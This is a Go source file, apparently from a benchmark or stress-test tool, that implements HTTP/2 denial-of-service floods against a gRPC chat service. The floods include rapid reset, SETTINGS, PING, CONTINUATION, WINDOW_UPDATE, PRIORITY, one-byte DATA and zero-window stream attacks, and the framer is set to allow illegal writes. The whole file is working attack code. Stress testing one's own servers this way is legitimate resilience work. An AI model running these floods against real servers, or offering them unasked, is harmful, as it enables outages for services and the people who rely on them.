package attack

import (
	"bufio"
	"bytes"
	"encoding/binary"
	"fmt"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/protobuf/encoding/protowire"
)

// kind is a flood of one kind of frame.
type kind struct {
	name     string
	settings []http2.Setting
	begin    func(*flooder) error             // is called first; or nil
	next     func(f *flooder, i uint32) error // sends the i-th
	streams  int                              // how many are sent at most; 0 means no bound but that of all floods
}

const (
	room        = "bench"
	zeroStreams = 1000
)

var kinds = []kind{
	{name: "rapid reset", next: func(f *flooder, i uint32) error {
		if err := f.subscribe(i); err != nil {
			return err
		}
		return f.framer.WriteRSTStream(2*i+1, http2.ErrCodeCancel)
	}},
	{name: "SETTINGS", next: func(f *flooder, i uint32) error {
		return f.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: i % 100})
	}},
	{name: "PING", next: func(f *flooder, i uint32) error {
		return f.framer.WritePing(false, [8]byte{byte(i)})
	}},
	{name: "empty DATA", begin: func(f *flooder) error { return f.call(0, true) }, next: func(f *flooder, _ uint32) error {
		return f.framer.WriteData(1, false, nil)
	}},
	// An open Chat receives its requests a byte at a time.
	{name: "DATA of a byte", begin: func(f *flooder) error { return f.headers(0, f.encode("/chat.v1.ChatRoom/Chat"), true) }, next: func(f *flooder, _ uint32) error {
		return f.framer.WriteData(1, false, oneByte)
	}},
	{name: "CONTINUATION", begin: func(f *flooder) error { return f.call(0, false) }, next: func(f *flooder, _ uint32) error {
		return f.framer.WriteContinuation(1, false, nil)
	}},
	{name: "WINDOW_UPDATE", next: func(f *flooder, _ uint32) error {
		return f.framer.WriteWindowUpdate(0, 1)
	}},
	{name: "PRIORITY", next: func(f *flooder, i uint32) error {
		return f.framer.WritePriority(2*(i%maxFrames)+1, http2.PriorityParam{Weight: 1})
	}},
	// Subscribers that never open their windows.
	{name: "zero-window streams", settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}, streams: zeroStreams,
		next: func(f *flooder, i uint32) error { return f.subscribe(i) }},
}

var oneByte = []byte{0} // many make empty messages

// Kinds returns the names of the floods.
func Kinds() []string {
	names := make([]string, len(kinds))
	for i, k := range kinds {
		names[i] = k.name
	}
	return names
}

func find(name string) (kind, error) {
	for _, k := range kinds {
		if k.name == name {
			return k, nil
		}
	}
	return kind{}, fmt.Errorf("no attack %q, only %q", name, Kinds())
}

// flooder writes frames.
type flooder struct {
	out       *bufio.Writer
	framer    *http2.Framer
	authority string
	block     []byte // the headers of a call of Subscribe
	body      []byte
}

func newFlooder(out *bufio.Writer, authority string) *flooder {
	f := &flooder{out: out, framer: http2.NewFramer(out, nil), authority: authority}
	f.framer.AllowIllegalWrites = true
	f.block = f.encode("/chat.v1.ChatRoom/Subscribe")
	subscription := protowire.AppendString(protowire.AppendTag(nil, 1, protowire.BytesType), room)
	request := protowire.AppendBytes(protowire.AppendTag(nil, 1, protowire.BytesType), subscription)
	f.body = append(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(request))), request...)
	return f
}

// encode returns the header block of a call, which is the same for each stream.
func (f *flooder) encode(path string) []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	encoder.SetMaxDynamicTableSize(0)
	for _, h := range []hpack.HeaderField{
		{Name: ":method", Value: "POST"},
		{Name: ":scheme", Value: "http"},
		{Name: ":authority", Value: f.authority},
		{Name: ":path", Value: path},
		{Name: "content-type", Value: "application/grpc"},
		{Name: "te", Value: "trailers"},
	} {
		_ = encoder.WriteField(h) // a bytes.Buffer takes everything
	}
	return block.Bytes()
}

// call calls Subscribe on the i-th stream. Unless end is set, CONTINUATION follows.
func (f *flooder) call(i uint32, end bool) error { return f.headers(i, f.block, end) }

// headers opens the i-th stream.
func (f *flooder) headers(i uint32, block []byte, end bool) error {
	return f.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*i + 1, BlockFragment: block, EndHeaders: end})
}

// subscribe calls Subscribe on the i-th stream.
func (f *flooder) subscribe(i uint32) error {
	if err := f.call(i, true); err != nil {
		return err
	}
	return f.framer.WriteData(2*i+1, true, f.body)
}
